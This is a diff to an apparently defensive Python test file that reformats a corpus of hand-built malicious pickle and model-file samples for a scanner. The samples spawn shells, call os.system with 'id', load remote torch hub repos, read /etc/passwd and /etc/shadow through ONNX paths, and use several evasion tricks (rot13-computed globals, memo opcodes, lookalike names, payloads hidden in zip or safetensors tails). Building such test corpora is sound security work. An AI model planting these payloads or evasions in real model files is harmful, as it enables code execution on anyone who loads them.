@@ -18,8 +18,9 @@ import struct
 import subprocess
 import tarfile
 import zipfile
+from collections.abc import Callable
 from dataclasses import dataclass
-from typing import Any, Callable
+from typing import Any
 
 # -- opcode helpers --------------------------------------------------------------------------
 
@@ -201,7 +202,10 @@ def _cases() -> list[Case]:
         Case("os-spawnlp", proto(2) + call(g0("os", "spawnlp"), b"K\x00", u("sh"), u("sh")) + STOP),
         Case("nt-system", proto(2) + call(g0("nt", "system"), u("calc")) + STOP),
         Case("pty-spawn", proto(4) + sg("pty", "spawn") + u("/bin/sh") + b"\x85R" + STOP),
-        Case("asyncio-subprocess", proto(4) + sg("asyncio.subprocess", "create_subprocess_shell") + u("id") + b"\x85R" + STOP),
+        Case(
+            "asyncio-subprocess",
+            proto(4) + sg("asyncio.subprocess", "create_subprocess_shell") + u("id") + b"\x85R" + STOP,
+        ),
         # eval / exec / import machinery
         Case("builtins-eval", dumps(builtins.eval, "print(1)")),
         Case("builtins-exec-p0", dumps(builtins.exec, "print(1)", protocol=0)),
@@ -227,11 +231,21 @@ def _cases() -> list[Case]:
         Case("torch-hub-load", proto(4) + sg("torch.hub", "load") + u("evil/repo") + b"\x85R" + STOP),
         Case("torch-jit-load", proto(4) + sg("torch.jit", "load") + u("x.pt") + b"\x85R" + STOP),
         Case("numpy-load", proto(4) + sg("numpy", "load") + u("x.npy") + b"\x85R" + STOP),
-        Case("numpy-testing-runstring", proto(4) + sg("numpy.testing._private.utils", "runstring")
-             + u("import os") + b"}\x86R" + STOP),
+        Case(
+            "numpy-testing-runstring",
+            proto(4) + sg("numpy.testing._private.utils", "runstring") + u("import os") + b"}\x86R" + STOP,
+        ),
         Case("joblib-load", proto(4) + sg("joblib", "load") + u("x.joblib") + b"\x85R" + STOP),
-        Case("load-from-bytes-computed", proto(4) + sg("torch.storage", "_load_from_bytes")
-             + sg("base64", "b64decode") + u("gASVAAAAAA==") + b"\x85R" + b"\x85R" + STOP),
+        Case(
+            "load-from-bytes-computed",
+            proto(4)
+            + sg("torch.storage", "_load_from_bytes")
+            + sg("base64", "b64decode")
+            + u("gASVAAAAAA==")
+            + b"\x85R"
+            + b"\x85R"
+            + STOP,
+        ),
         # network, files, the interpreter
         Case("socket", proto(4) + sg("socket", "socket") + b")R" + STOP),
         Case("urllib-urlopen", proto(4) + sg("urllib.request", "urlopen") + u("http://x") + b"\x85R" + STOP),
@@ -246,14 +260,61 @@ def _cases() -> list[Case]:
         Case("functools-partial-system", dumps(functools.partial(os.system, "id"))),
         Case("functools-reduce", proto(4) + sg("functools", "reduce") + b")R" + STOP),
         # evasions
-        Case("memo-stack-global", proto(4) + u("os") + b"q\x01" + b"0" + u("system") + b"q\x02" + b"0"
-             + b"h\x01h\x02\x93" + u("id") + b"\x85R" + STOP),
-        Case("memoize-stack-global", proto(4) + u("posix") + b"\x94" + u("system") + b"\x94" + b"00"
-             + b"h\x00h\x01\x93" + u("id") + b"\x85R" + STOP),
-        Case("long-binput-get", proto(4) + u("subprocess") + b"r\x00\x00\x01\x00" + u("getoutput")
-             + b"\x93" + b"0" + b"j\x00\x00\x01\x00" + u("getoutput") + b"\x93" + u("id") + b"\x85R" + STOP),
-        Case("computed-stack-global", proto(4) + sg("_codecs", "encode") + u("bf") + u("rot13") + b"\x86R"
-             + u("flfgrz") + b"\x93" + u("id") + b"\x85R" + STOP),
+        Case(
+            "memo-stack-global",
+            proto(4)
+            + u("os")
+            + b"q\x01"
+            + b"0"
+            + u("system")
+            + b"q\x02"
+            + b"0"
+            + b"h\x01h\x02\x93"
+            + u("id")
+            + b"\x85R"
+            + STOP,
+        ),
+        Case(
+            "memoize-stack-global",
+            proto(4)
+            + u("posix")
+            + b"\x94"
+            + u("system")
+            + b"\x94"
+            + b"00"
+            + b"h\x00h\x01\x93"
+            + u("id")
+            + b"\x85R"
+            + STOP,
+        ),
+        Case(
+            "long-binput-get",
+            proto(4)
+            + u("subprocess")
+            + b"r\x00\x00\x01\x00"
+            + u("getoutput")
+            + b"\x93"
+            + b"0"
+            + b"j\x00\x00\x01\x00"
+            + u("getoutput")
+            + b"\x93"
+            + u("id")
+            + b"\x85R"
+            + STOP,
+        ),
+        Case(
+            "computed-stack-global",
+            proto(4)
+            + sg("_codecs", "encode")
+            + u("bf")
+            + u("rot13")
+            + b"\x86R"
+            + u("flfgrz")
+            + b"\x93"
+            + u("id")
+            + b"\x85R"
+            + STOP,
+        ),
         Case("bytes-stack-global", proto(4) + b"C\x02os" + b"C\x06system" + b"\x93" + u("id") + b"\x85R" + STOP),
         Case("after-stop", pickle.dumps([1, 2], protocol=4) + _EVIL_P4),
         Case("junk-then-pickle", pickle.dumps({"a": 1}, protocol=4) + b"\n\x00\xff junk " + _EVIL_P4),
@@ -261,24 +322,43 @@ def _cases() -> list[Case]:
         Case("unicode-lookalike", proto(4) + sg("\uff4fs", "system") + u("id") + b"\x85R" + STOP, critical=True),
         Case("dotted-globals", proto(4) + sg("torch._utils", "_rebuild_tensor_v2.__globals__") + STOP),
         Case("dotted-builtins", proto(4) + sg("collections", "OrderedDict.__class__.__subclasses__") + b")R" + STOP),
-        Case("getattr-chain", proto(4) + sg("builtins", "getattr") + sg("builtins", "__import__") + u("os")
-             + b"\x85R" + u("system") + b"\x86R" + u("id") + b"\x85R" + STOP),
+        Case(
+            "getattr-chain",
+            proto(4)
+            + sg("builtins", "getattr")
+            + sg("builtins", "__import__")
+            + u("os")
+            + b"\x85R"
+            + u("system")
+            + b"\x86R"
+            + u("id")
+            + b"\x85R"
+            + STOP,
+        ),
         Case("frames", framed(sg("os", "system"), u("id") + b"\x85R" + STOP)),
-        Case("torch-utils-lookalike", proto(4) + sg("torch._utils_", "_rebuild_tensor_v2") + b")R" + STOP, critical=False),
+        Case(
+            "torch-utils-lookalike", proto(4) + sg("torch._utils_", "_rebuild_tensor_v2") + b")R" + STOP, critical=False
+        ),
         Case("torch-utils-space", proto(4) + sg("torch._utils", "_rebuild_tensor_v2 ") + b")R" + STOP, critical=False),
         Case("ext1", proto(2) + b"\x82\x01" + u("id") + b"\x85R" + STOP, critical=False),
-        Case("build-on-module", proto(4) + sg("collections", "OrderedDict") + b"}" + u("fromkeys") + u("x")
-             + b"sb" + STOP),
+        Case(
+            "build-on-module",
+            proto(4) + sg("collections", "OrderedDict") + b"}" + u("fromkeys") + u("x") + b"sb" + STOP,
+        ),
         Case("setitem-on-global", proto(4) + sg("collections", "abc") + u("k") + u("v") + b"s" + STOP),
         Case("inst-opcode", b"(" + b"S'id'\n" + b"ios\nsystem\n" + STOP),
         Case("obj-opcode", proto(2) + b"(" + _SYS + u("id") + b"o" + STOP),
         Case("newobj-ex", proto(4) + sg("subprocess", "Popen") + b"]" + u("id") + b"a\x85}\x92" + STOP),
-        Case("newobj-computed", proto(4) + sg("builtins", "getattr") + sg("os", "path") + u("join") + b"\x86R"
-             + b")\x81" + STOP),
+        Case(
+            "newobj-computed",
+            proto(4) + sg("builtins", "getattr") + sg("os", "path") + u("join") + b"\x86R" + b")\x81" + STOP,
+        ),
         Case("unknown-global", proto(4) + sg("mypkg.layers", "Custom") + b")R" + STOP, critical=False),
         Case("main-class", proto(4) + sg("__main__", "Evil") + b")\x81" + STOP, critical=False),
-        Case("copyreg-reconstructor-evil", proto(2) + call(g0("copy_reg", "_reconstructor"), _SYS, g0("__builtin__", "object"),
-                                                           b"N") + STOP),
+        Case(
+            "copyreg-reconstructor-evil",
+            proto(2) + call(g0("copy_reg", "_reconstructor"), _SYS, g0("__builtin__", "object"), b"N") + STOP,
+        ),
         Case("truncated-after-call", proto(4) + sg("os", "system") + u("id") + b"\x85R" + b"X\xff\xff"),
         Case("stack-underflow-after", proto(2) + call(_SYS, u("id")) + b"R" + STOP),
         Case("unknown-opcode", proto(4) + u("x") + b"\xff" + STOP, critical=False),
@@ -286,8 +366,10 @@ def _cases() -> list[Case]:
         # containers and formats
         Case("zip-wrong-ext", zip_bytes({"weights.txt": _EVIL_P4})),
         Case("torch-zip-data-pkl", zip_bytes({"archive/data.pkl": _EVIL_P4, "archive/version": b"3\n"})),
-        Case("torch-zip-extra-pkl", zip_bytes({"archive/data.pkl": pickle.dumps({}, protocol=2),
-                                               "archive/extra/x.pkl": _EVIL_P4})),
+        Case(
+            "torch-zip-extra-pkl",
+            zip_bytes({"archive/data.pkl": pickle.dumps({}, protocol=2), "archive/extra/x.pkl": _EVIL_P4}),
+        ),
         Case("zip-encrypted-flag", zip_bytes({"model/config.pkl": _EVIL_P4}, flags=0x1)),
         Case("zip-deflate", zip_bytes({"archive/data.pkl": _EVIL_P4}, method=zipfile.ZIP_DEFLATED)),
         Case("zip-bzip2", zip_bytes({"archive/data.pkl": _EVIL_P4}, method=zipfile.ZIP_BZIP2)),
@@ -302,23 +384,48 @@ def _cases() -> list[Case]:
         Case("npz-compressed-object", zip_bytes({"arr_0.npy": npy_object(_EVIL_P4)}, method=zipfile.ZIP_DEFLATED)),
         Case("joblib-dual-interpretation", joblib_dual(b"0" + _SYS + b"(S'id'\ntR0")),
         Case("legacy-torch", legacy_torch(dumps(os.system, "id", protocol=2))),
-        Case("legacy-magic-bypass", dumps(builtins.eval, "0x1950A86A20F9469CFC6C", protocol=2)
-             + pickle.dumps(1001, protocol=2) + pickle.dumps({}, protocol=2) + dumps(os.system, "id", protocol=2)),
+        Case(
+            "legacy-magic-bypass",
+            dumps(builtins.eval, "0x1950A86A20F9469CFC6C", protocol=2)
+            + pickle.dumps(1001, protocol=2)
+            + pickle.dumps({}, protocol=2)
+            + dumps(os.system, "id", protocol=2),
+        ),
         Case("keras-lambda", keras_zip("Lambda")),
-        Case("hdf5-lambda", b"\x89HDF\r\n\x1a\n" + b"\x00" * 64
-             + b'{"class_name": "Functional", "config": {"layers": [{"class_name": "Lambda", "config": {}}]}}'
-             + b"\x00" * 64),
+        Case(
+            "hdf5-lambda",
+            b"\x89HDF\r\n\x1a\n"
+            + b"\x00" * 64
+            + b'{"class_name": "Functional", "config": {"layers": [{"class_name": "Lambda", "config": {}}]}}'
+            + b"\x00" * 64,
+        ),
         Case("onnx-escape", onnx_with_location("../../../etc/passwd"), critical=False),
         Case("onnx-absolute", onnx_with_location("/etc/shadow"), critical=False),
-        Case("safetensors-overlap", safetensors({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
-                                                 "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}},
-                                                b"\x00" * 12), critical=False),
-        Case("safetensors-hidden-tail", safetensors({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}},
-                                                    b"\x00" * 4 + _EVIL_P4)),
-        Case("safetensors-out-of-bounds", safetensors({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}},
-                                                      b"\x00" * 8), critical=False),
-        Case("safetensors-bad-dtype", safetensors({"a": {"dtype": "PICKLE", "shape": [1], "data_offsets": [0, 1]}},
-                                                  b"\x00"), critical=False),
+        Case(
+            "safetensors-overlap",
+            safetensors(
+                {
+                    "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
+                    "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]},
+                },
+                b"\x00" * 12,
+            ),
+            critical=False,
+        ),
+        Case(
+            "safetensors-hidden-tail",
+            safetensors({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\x00" * 4 + _EVIL_P4),
+        ),
+        Case(
+            "safetensors-out-of-bounds",
+            safetensors({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, b"\x00" * 8),
+            critical=False,
+        ),
+        Case(
+            "safetensors-bad-dtype",
+            safetensors({"a": {"dtype": "PICKLE", "shape": [1], "data_offsets": [0, 1]}}, b"\x00"),
+            critical=False,
+        ),
     ]
     return cases
 
